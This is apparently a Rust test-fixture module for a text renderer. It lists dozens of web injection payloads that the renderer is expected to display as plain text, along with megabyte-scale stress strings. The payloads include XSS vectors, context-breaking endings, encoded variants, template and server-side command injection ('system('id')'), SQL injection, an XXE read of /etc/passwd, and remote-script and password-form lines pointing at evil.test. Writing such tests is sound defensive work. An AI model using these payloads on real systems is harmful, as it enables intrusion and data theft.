//! Texts that would be markup or script, if they were let.

use super::Fate::Shown;
use super::Place::{Paragraph, Text};
use super::{Payload, each, long};

pub fn all() -> Vec<Payload> {
    [
        each(Text, Shown, &MARKUP),
        each(Text, Shown, &ENDINGS),
        each(Text, Shown, &LANGUAGES),
        vec![
            long(Paragraph, Shown, "a word of a megabyte", "x".repeat(1_000_000)),
            long(Paragraph, Shown, "a line of a megabyte", "so it goes ".repeat(90_910).trim_end().to_owned()),
            long(Paragraph, Shown, "a megabyte of tags", "<b>".repeat(333_334)),
            long(Paragraph, Shown, "a megabyte of entities", "&lt;".repeat(250_000)),
            long(Text, Shown, "long words everywhere", "x".repeat(50_000)),
        ],
    ]
    .concat()
}

const MARKUP: [(&str, &str); 22] = [
    ("a script", "<script>alert(1)</script>"),
    ("a script in capitals", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>"),
    ("a script without an end", "<script src=//evil.test/x.js"),
    ("an image that fails", "<img src=x onerror=alert(1)>"),
    ("a drawing that loads", "<svg onload=alert(1)>"),
    ("a drawing with a script", "<svg><script>alert&#40;1)</script></svg>"),
    ("a frame with a page in it", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"),
    ("another base", "<base href=//evil.test/>"),
    ("a page that leaves", "<meta http-equiv=refresh content='0;url=//evil.test'>"),
    ("a style", "<style>*{display:none}</style>"),
    ("a style of another host", "<link rel=stylesheet href=//evil.test/x.css>"),
    ("a form", "<form action=//evil.test><input name=password></form>"),
    ("a link", "<a href=javascript:alert(1)>x</a>"),
    ("a second text of the page", "<main id=text>x</main>"),
    ("folds that open", "<details open ontoggle=alert(1)>"),
    ("an element that takes the focus", "<input autofocus onfocus=alert(1)>"),
    ("mathematics that a parser mends", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("without script", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("a template", "<template><script>alert(1)</script></template>"),
    ("plain text to the end", "<plaintext>"),
    ("a place that clobbers", "<img name=getElementById id=reader>"),
    ("an element of its own", "<x-y onclick=alert(1)>x</x-y>"),
];

const ENDINGS: [(&str, &str); 16] = [
    ("the end of an attribute", "\" onmouseover=\"alert(1)"),
    ("the end of an attribute in single quotes", "' onmouseover='alert(1)"),
    ("the end of an attribute without quotes", "x onmouseover=alert(1)"),
    ("the end of an element", "\"><script>alert(1)</script>"),
    ("the end of the title", "</title><script>alert(1)</script>"),
    ("the end of the data block", "</script><script>alert(1)</script>"),
    ("the beginning of a comment in the data block", "<!--<script>"),
    ("the end of a comment", "--><script>alert(1)</script>"),
    ("the end of a section", "]]><script>alert(1)</script>"),
    ("the end of the text", "</p></article></main><h1>x</h1>"),
    ("the end of the page", "</body></html>"),
    ("the end of a drawing", "</text></svg><img src=x onerror=alert(1)>"),
    ("the end of a style", "</style><script>alert(1)</script>"),
    ("the page's own marks", "<!-- otr:body --> <!-- otr:head --> <html lang=\"en\""),
    ("the end of a text in script", "\";alert(1);//"),
    ("the end of a rule", "\"}*{display:none}"),
];

const LANGUAGES: [(&str, &str); 18] = [
    ("entities", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("entities by number", "&#60;script&#62;alert(1)&#x3c;/script&#x3e;"),
    ("entities without an end", "&ltscript&gtalert(1)&copy"),
    ("escapes of script", "\\u003cscript\\u003ealert(1)\\x3c/script\\x3e"),
    ("percent signs", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("UTF-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("fullwidth brackets", "＜script＞alert(1)＜/script＞"),
    ("a template of braces", "{{constructor.constructor('alert(1)')()}}"),
    ("a template of script", "${alert(1)}"),
    ("a server's template", "<%= system('id') %> <?php system('id') ?>"),
    ("a server's include", "<!--#exec cmd=\"id\" --> <esi:include src=\"//evil.test\"/>"),
    ("Markdown", "[x](javascript:alert(1)) ![x](//evil.test/x)"),
    ("a formula", "=HYPERLINK(\"//evil.test\",\"x\")"),
    ("a query", "'; DROP TABLE stories; --"),
    ("a prototype", "{\"__proto__\":{\"x\":1}}"),
    ("an entity of XML", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;"),
    ("a style's address", "url(javascript:alert(1)) expression(alert(1))"),
    ("a script's name alone", "javascript:alert(1)"),
];
